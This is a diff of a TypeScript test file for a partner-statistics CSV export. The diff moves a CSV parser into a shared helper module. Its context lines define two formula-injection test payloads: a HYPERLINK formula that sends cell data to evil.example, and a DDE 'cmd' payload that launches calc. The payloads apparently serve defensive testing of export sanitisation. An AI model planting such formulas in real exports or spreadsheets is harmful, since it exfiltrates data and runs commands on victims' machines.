@@ -9,6 +9,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { conversions, offers } from '../src/db/schema.js';
 import { buildTestApp, callEndpoint, createPartner, expectOk, login, testClock, type TestApp } from './helper.js';
 import { advertiserTokenOf, createOffer } from './offer-fixtures.js';
+import { parseCsv } from './csv.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 const CMD = "+cmd|'/C calc'!A0";
@@ -21,34 +22,6 @@ let token: string;
 let offerId: number;
 const clock = testClock(new Date('2026-03-10T12:00:00Z'));
 const DAY = { startDate: '2026-03-10', endDate: '2026-03-10' };
-
-/** RFC 4180 as csv-stringify writes it: quoted fields may hold commas, quotes and line breaks. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\n') {
-      rows.push([...row, field]);
-      row = [];
-      field = '';
-    } else field += ch;
-  }
-  if (field || row.length) rows.push([...row, field]);
-  return rows;
-}
 
 async function exported(type: ReportType): Promise<string[][]> {
   const res = await callEndpoint(t.app, statisticsEndpoints.export, { params: { type }, query: DAY }, token);
